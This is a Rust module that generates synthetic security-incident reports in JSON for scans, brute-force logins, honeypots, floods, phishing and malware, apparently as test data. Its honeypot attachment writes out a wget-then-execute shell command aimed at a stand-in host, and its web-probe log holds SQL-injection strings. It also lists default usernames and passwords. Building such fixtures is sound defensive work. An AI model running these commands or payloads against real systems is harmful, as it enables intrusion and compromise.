//! The kinds of events and what each looks like.

use super::bulk;
use super::json::Json;
use super::odd;
use super::population::{Population, Service};
use super::random::Random;

/// What happened.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    Scan,
    PortScan,
    Login,
    Honeypot,
    Vulnerable,
    Botnet,
    Exploit,
    Flood,
    Amplification,
    Traffic,
    Spam,
    Phishing,
    Malware,
    Tunnel,
    Web,
    Correlated,
    Aggregated,
    Copyright,
    Tiny,
    /// Thousands of addresses.
    Crowd,
    /// A long attachment.
    Archive,
    /// Valid, but unexpected.
    Odd,
}

const EXPOSED: [(&str, u64, &str, &str); 10] = [
    ("open DNS resolver", 53, "udp", "dns"),
    ("NTP monitor list", 123, "udp", "ntp"),
    ("SSDP answers the Internet", 1900, "udp", "ssdp"),
    ("SNMP with a public community", 161, "udp", "snmp"),
    ("memcached without a password", 11_211, "udp", "memcache"),
    ("connectionless LDAP", 389, "udp", "ldap"),
    ("obsolete TLS version", 443, "tcp", "https"),
    ("remote desktop open to all", 3389, "tcp", "rdp"),
    ("telnet in use", 23, "tcp", "telnet"),
    ("Redis without a password", 6379, "tcp", "redis"),
];

const LOGINS: [Service; 7] = [
    (22, "tcp", "ssh"),
    (22, "tcp", "ssh"),
    (23, "tcp", "telnet"),
    (3389, "tcp", "rdp"),
    (25, "tcp", "smtp"),
    (143, "tcp", "imap"),
    (5060, "udp", "sip"),
];

const USERS: [&str; 10] = [
    "root", "admin", "user", "test", "oracle", "postgres", "ubuntu", "pi", "support", "žofie",
];

const PASSWORDS: [&str; 10] = [
    "123456",
    "admin",
    "root",
    "password",
    "",
    "toor",
    "raspberry",
    "1qaz2wsx",
    "p@ss \"w0rd\\",
    "heslo č. 1",
];

const SIGNATURES: [&str; 6] = [
    "SCAN suspicious inbound to database port",
    "WEB possible SQL injection in parameter",
    "EXPLOIT log message lookup, remote code",
    "TROJAN beacon with known interval",
    "POLICY anonymising network exit node",
    "SCAN echo request sweep",
];

/// Connections or targets at most.
const MANY: u64 = 2000;

/// Writes what is particular to the kind. `referred` are IDs of earlier messages, for the kinds that refer to some.
pub(super) fn write(kind: Kind, random: &mut Random, json: &mut Json, who: &Population, referred: &[String]) {
    // Some detectors are being tried out; nobody is to act on what they say.
    let trial = random.chance(0.01);
    let (categories, description): (&[&str], &str) = match kind {
        Kind::Scan => (&["Recon.Scanning"], "Horizontal port scan"),
        Kind::PortScan => (&["Recon.Scanning"], "Vertical port scan (TCP SYN)"),
        Kind::Login => (&["Attempt.Login"], "Password guessing"),
        Kind::Honeypot if random.chance(0.2) => {
            (&["Intrusion.UserCompromise"], "Login to a honeypot, commands entered")
        }
        Kind::Honeypot => (&["Attempt.Login"], "Login to a honeypot tried"),
        Kind::Vulnerable if random.chance(0.3) => (&["Vulnerable.Open"], "Open service that can be abused"),
        Kind::Vulnerable => (&["Vulnerable.Config"], "Badly configured service"),
        Kind::Botnet => (&["Intrusion.Botnet"], "Communication with a blacklisted address"),
        Kind::Exploit => (&["Attempt.Exploit"], "Signature matched"),
        Kind::Flood => (&["Availability.DDoS"], "SYN flood"),
        Kind::Amplification => (&["Availability.DDoS"], "Amplification attack"),
        Kind::Traffic => (&["Anomaly.Traffic"], "Traffic above threshold"),
        Kind::Spam => (&["Abusive.Spam"], "Unsolicited bulk mail"),
        Kind::Phishing => (&["Fraud.Phishing"], "Phishing page"),
        Kind::Malware => (&["Malware"], "Malware download"),
        Kind::Tunnel => (&["Anomaly.Connection"], "Tunnel over DNS"),
        Kind::Web => (&["Attempt.Exploit", "Recon.Searching"], "Web application probed"),
        Kind::Correlated => (
            &["Recon.Scanning", "Attempt.Login"],
            "Activity of one source in several stages",
        ),
        Kind::Aggregated => (&["Recon.Scanning"], "Scan, aggregated"),
        Kind::Copyright => (&["Fraud.Copyright"], "Alleged copyright infringement"),
        Kind::Tiny => (&["Test"], ""),
        Kind::Crowd => (&["Availability.DDoS"], "Flood of answers nobody asked for"),
        Kind::Archive => (&["Anomaly.Traffic"], "Recorded traffic"),
        Kind::Odd => (&["Other"], odd::text(random)),
    };
    let trial = ["Test"].into_iter().filter(|_| trial && kind != Kind::Tiny);
    json.key("Category").texts(categories.iter().copied().chain(trial));
    if kind != Kind::Tiny {
        json.key("Description").text(description);
    }
    match kind {
        Kind::Scan => scan(random, json, who),
        Kind::PortScan => port_scan(random, json, who),
        Kind::Login => login(random, json, who),
        Kind::Honeypot => honeypot(random, json, who),
        Kind::Vulnerable => vulnerable(random, json, who),
        Kind::Botnet => botnet(random, json, who),
        Kind::Exploit => exploit(random, json, who),
        Kind::Flood => flood(random, json, who),
        Kind::Amplification => amplification(random, json, who),
        Kind::Traffic => traffic(random, json, who),
        Kind::Spam => spam(random, json, who),
        Kind::Phishing => phishing(random, json, who),
        Kind::Malware => malware(random, json, who),
        Kind::Tunnel => tunnel(random, json, who),
        Kind::Web => web(random, json, who),
        Kind::Correlated => {
            json.key("CorrelID").texts(referred);
            json.key("Source").only(|json| who.source(random, json));
        }
        Kind::Aggregated => {
            json.key("AggrID").texts(referred);
            scan(random, json, who);
        }
        Kind::Copyright => copyright(random, json, who),
        Kind::Crowd => bulk::crowd(random, json, who),
        Kind::Archive => bulk::archive(random, json, who),
        Kind::Odd => odd::write(random, json, who),
        Kind::Tiny => json.key("Source").only(|json| who.source(random, json)),
    }
}

fn scan(random: &mut Random, json: &mut Json, who: &Population) {
    let (port, transport, name) = who.service(random);
    let targets = random.long_tailed(MANY);
    json.key("ConnCount").number(targets + random.below(50));
    json.key("FlowCount").number(targets * random.between(1, 3));
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Proto").texts([transport]);
    });
    json.key("Target").only(|json| {
        if random.chance(0.6) {
            who.targets(random, json, targets);
        }
        json.key("Port").numbers([port.into()]);
        json.key("Proto").texts([transport, name]);
        if random.chance(0.3) {
            json.key("Anonymised").boolean(true);
        }
    });
}

fn port_scan(random: &mut Random, json: &mut Json, who: &Population) {
    let count = random.between(5, 200);
    json.key("FlowCount").number(count * 2);
    json.key("PacketCount").number(count * 3);
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Proto").texts(["tcp"]);
    });
    let mut ports: Vec<u64> = (0..count).map(|_| random.between(1, 65_535)).collect();
    ports.sort_unstable();
    ports.dedup();
    json.key("Target").only(|json| {
        who.targets(random, json, 1);
        json.key("Port").numbers(ports);
        json.key("Proto").texts(["tcp"]);
    });
}

fn login(random: &mut Random, json: &mut Json, who: &Population) {
    let (port, transport, name) = *random.pick(&LOGINS);
    json.key("ConnCount").number(random.long_tailed(100_000));
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Proto").texts([transport, name]);
        if random.chance(0.3) {
            json.key("Port").numbers([random.between(1024, 65_535)]);
        }
    });
    let targets = random.between(1, 3);
    json.key("Target").only(|json| {
        who.targets(random, json, targets);
        json.key("Port").numbers([port.into()]);
        json.key("Proto").texts([transport, name]);
        if random.chance(0.2) {
            json.key("Hostname")
                .texts([format!("login{:02}.example.org", random.below(30))]);
        }
    });
}

fn honeypot(random: &mut Random, json: &mut Json, who: &Population) {
    let tries = random.long_tailed(120);
    json.key("ConnCount").number(tries);
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Port").numbers([random.between(1024, 65_535)]);
        json.key("Proto").texts(["tcp", "ssh"]);
    });
    json.key("Target").only(|json| {
        who.targets(random, json, 1);
        json.key("Port").numbers([2222]);
        json.key("Proto").texts(["tcp", "ssh"]);
        json.key("Anonymised").boolean(random.chance(0.5));
    });
    json.key("Attach").list(|json| {
        json.object(|json| {
            json.key("Handle").text("att1");
            json.key("Type").texts(["Credentials"]);
            // Undeclared, but what honeypots really send.
            json.key("Credentials").list(|json| {
                for _ in 0..tries {
                    json.object(|json| {
                        json.key("Username").text(random.word(&USERS));
                        json.key("Password").text(random.word(&PASSWORDS));
                    });
                }
            });
        });
        if random.chance(0.3) {
            let file = random.below(1 << 32);
            json.object(|json| {
                json.key("Handle").text("att2");
                json.key("Type").texts(["ShellCode"]);
                json.key("ContentType").text("text/x-shellscript");
                json.key("Content").text(&format!(
                    "uname -a\ncd /tmp; wget http://files.example.com/{file:x}.sh\nchmod 777 {file:x}.sh; ./{file:x}.sh\n"
                ));
            });
        }
    });
}

fn vulnerable(random: &mut Random, json: &mut Json, who: &Population) {
    let (what, port, transport, name) = *random
        .pick_early(&EXPOSED)
        .unwrap_or(&("telnet in use", 23, "tcp", "telnet"));
    json.key("AltNames")
        .texts([format!("survey:{}", random.below(1_000_000))]);
    json.key("Ref")
        .texts([format!("https://survey.example.org/{name}/{port}")]);
    json.key("Source").only(|json| {
        who.targets(random, json, 1);
        json.key("Hostname")
            .texts([format!("host-{}.example.org", random.below(10_000))]);
        json.key("Type").texts(["Open"]);
        json.key("Port").numbers([port]);
        json.key("Proto").texts([transport, name]);
        json.key("Note").text(what);
    });
}

fn botnet(random: &mut Random, json: &mut Json, who: &Population) {
    json.key("FlowCount").number(random.between(1, 500));
    json.key("ByteCount").number(random.between(100, 10_000_000));
    json.key("Ref")
        .texts([format!("https://lists.example.net/blacklist/{}", random.below(50))]);
    json.key("Source").only(|json| {
        who.targets(random, json, 1);
        json.key("Type").texts(["Botnet"]);
        json.key("Proto").texts(["tcp"]);
    });
    json.key("Target").only(|json| {
        who.source(random, json);
        json.key("Type").texts(["Botnet", "CC"]);
        json.key("Port").numbers([*random.pick(&[443, 6667, 8443])]);
        json.key("Proto").texts(["tcp"]);
        if random.chance(0.4) {
            json.key("Hostname")
                .texts([format!("c{}.example.net", random.below(200))]);
        }
    });
}

fn exploit(random: &mut Random, json: &mut Json, who: &Population) {
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Port").numbers([random.between(1024, 65_535)]);
        json.key("Proto").texts(["tcp"]);
    });
    let (port, transport, _) = who.service(random);
    json.key("Target").only(|json| {
        who.targets(random, json, 1);
        json.key("Port").numbers([port.into()]);
        json.key("Proto").texts([transport]);
    });
    // JSON within JSON, as the sensor wrote it.
    let mut alert = Json::with_capacity(4096);
    alert.object(|json| {
        json.key("event_type").text("alert");
        json.key("alert").object(|json| {
            json.key("signature").text(random.word(&SIGNATURES));
            json.key("signature_id").number(2_000_000 + random.below(100_000));
            json.key("rev").number(random.between(1, 9));
        });
        let length = 40 + random.skewed(3000);
        json.key("payload").text(&base64(random, length));
    });
    json.key("Attach").only(|json| {
        json.key("Type").texts(["OrigData"]);
        json.key("ContentType").text("application/json");
        json.key("Content").text(&alert.take());
    });
}

fn flood(random: &mut Random, json: &mut Json, who: &Population) {
    let attackers = (random.long_tailed(MANY) * 3).min(500);
    json.key("PacketCount").number(random.between(100_000, 1_000_000_000));
    json.key("ByteCount")
        .number(random.between(10_000_000, 100_000_000_000));
    json.key("Source").only(|json| {
        who.sources(random, json, attackers);
        json.key("Type").texts(["Botnet"]);
        json.key("Proto").texts(["tcp"]);
        if random.chance(0.2) {
            json.key("Spoofed").boolean(true);
        }
    });
    json.key("Target").only(|json| {
        who.targets(random, json, 1);
        json.key("Port").numbers([80, 443]);
        json.key("Proto").texts(["tcp", "http"]);
    });
}

fn amplification(random: &mut Random, json: &mut Json, who: &Population) {
    let (port, name) = *random.pick(&[(53, "dns"), (123, "ntp"), (1900, "ssdp"), (161, "snmp"), (389, "ldap")]);
    let transport = "udp";
    json.key("FlowCount").number(random.between(10, 100_000));
    let reflectors = random.between(1, 40);
    json.key("Source").only(|json| {
        who.targets(random, json, reflectors);
        json.key("Port").numbers([port]);
        json.key("Proto").texts([transport, name]);
        json.key("OutByteCount")
            .number(random.between(1_000_000, 10_000_000_000));
        json.key("InByteCount").number(random.between(10_000, 10_000_000));
    });
    json.key("Target").only(|json| {
        who.source(random, json);
        json.key("Proto").texts([transport, name]);
    });
}

fn traffic(random: &mut Random, json: &mut Json, who: &Population) {
    json.key("ByteCount").number(random.below(1_000_000_000_000));
    json.key("PacketCount").number(random.below(1_000_000_000));
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Router").texts([format!("router{:02}", random.below(40))]);
        json.key("Proto").texts(["tcp"]);
    });
    let targets = (random.long_tailed(MANY) + 10).min(200);
    json.key("Target").only(|json| {
        who.targets(random, json, targets);
        json.key("Imprecise").boolean(true);
    });
    let mut rows = "second,source,protocol,bytes".to_owned();
    for second in 0..random.between(5, 200) {
        let (host, bytes) = (random.between(1, 240), random.below(1_000_000));
        rows.push_str(&format!("\n{second},203.0.113.{host},6,{bytes}"));
    }
    json.key("Attach").only(|json| {
        json.key("Note").text("Traffic sample");
        json.key("ContentType").text("text/csv");
        json.key("Content").text(&rows);
    });
}

fn spam(random: &mut Random, json: &mut Json, who: &Population) {
    json.key("ConnCount").number(random.between(1, 3000));
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Type").texts(["OriginSpam"]);
        json.key("Email")
            .texts([format!("sender{}@example.com", random.below(1000))]);
        json.key("Proto").texts(["tcp", "smtp"]);
    });
    let recipients = random.between(1, 20);
    json.key("Target").only(|json| {
        json.key("Email")
            .texts((0..recipients).map(|_| format!("user{}@example.org", random.below(5000))));
        json.key("Port").numbers([25]);
        json.key("Proto").texts(["tcp", "smtp"]);
    });
}

fn phishing(random: &mut Random, json: &mut Json, who: &Population) {
    let host = format!("login-{:x}.example.com", random.below(1 << 24));
    json.key("Ref")
        .texts([format!("urn:phish:{}", random.below(1_000_000))]);
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Type").texts(["Phishing"]);
        let page = random.below(1 << 40);
        json.key("URL")
            .texts([format!("http://{host}/bank/{page:x}?id={}", random.below(100))]);
        json.key("Hostname").texts([host]);
    });
}

fn malware(random: &mut Random, json: &mut Json, who: &Population) {
    let name = format!("{:x}.bin", random.below(1 << 32));
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Type").texts(["Malware"]);
        json.key("URL").texts([format!("http://files.example.net/{name}")]);
        json.key("Port").numbers([80]);
        json.key("Proto").texts(["tcp", "http"]);
        json.key("AttachHand").texts(["sample"]);
    });
    let length = random.between(200, 10_800);
    json.key("Attach").only(|json| {
        json.key("Handle").text("sample");
        json.key("Type").texts(["Malware"]);
        json.key("FileName").texts([name]);
        // Of the right form; they are not sums of the content.
        json.key("Hash").texts([
            format!("sha1:{}", hex(random, 40)),
            format!("sha256:{}", hex(random, 64)),
        ]);
        json.key("Size").number(length);
        json.key("ContentType").text("application/octet-stream");
        json.key("ContentEncoding").text("base64");
        json.key("Content").text(&base64(random, length));
    });
}

fn tunnel(random: &mut Random, json: &mut Json, who: &Population) {
    json.key("FlowCount").number(random.between(50, 5000));
    json.key("Source").only(|json| {
        who.targets(random, json, 1);
        json.key("Proto").texts(["udp", "dns"]);
        json.key("Note")
            .text(&format!("asked for {}.t.example.net", hex(random, 24)));
    });
}

fn web(random: &mut Random, json: &mut Json, who: &Population) {
    let requests = random.between(1, 40);
    json.key("ConnCount").number(requests);
    json.key("Source").only(|json| {
        who.source(random, json);
        json.key("Proto").texts(["tcp", "http"]);
    });
    json.key("Target").only(|json| {
        who.targets(random, json, 1);
        json.key("Hostname")
            .texts([format!("www{}.example.org", random.below(50))]);
        json.key("Port").numbers([80]);
        json.key("Proto").texts(["tcp", "http"]);
    });
    let log: Vec<String> = (0..requests)
        .map(|_| {
            format!(
                "\"GET /index.php?id={}%27+OR+1=1-- HTTP/1.1\" 404 {}",
                random.below(1000),
                random.below(9999)
            )
        })
        .collect();
    json.key("Attach").only(|json| {
        json.key("ContentType").text("text/plain");
        json.key("ContentCharset").text("utf-8");
        json.key("Content").text(&log.join("\n"));
    });
}

fn copyright(random: &mut Random, json: &mut Json, who: &Population) {
    json.key("RelID").texts([format!("case-{}", random.below(1_000_000))]);
    json.key("Source").only(|json| {
        who.targets(random, json, 1);
        json.key("Netname")
            .texts([format!("ripe:EXAMPLE-NET{}", random.below(9))]);
        json.key("Port").numbers([random.between(1024, 65_535)]);
        json.key("Proto").texts(["udp", "bittorrent"]);
    });
}

fn hex(random: &mut Random, digits: usize) -> String {
    (0..digits)
        .map(|_| char::from(*random.pick(b"0123456789abcdef")))
        .collect()
}

/// Random content of `length` bytes, in base64 with padding.
pub(super) fn base64(random: &mut Random, length: u64) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::with_capacity(usize::try_from(length.div_ceil(3) * 4).unwrap_or(0));
    for _ in 0..length / 3 * 4 {
        text.push(char::from(*random.pick(DIGITS)));
    }
    // Of the last digit, the bits beyond the content are zero.
    match length % 3 {
        1 => text.push_str(random.word(&["Aw==", "8Q==", "zA=="])),
        2 => text.push_str(random.word(&["kdo=", "AAE=", "7/8="])),
        _ => {}
    }
    text
}
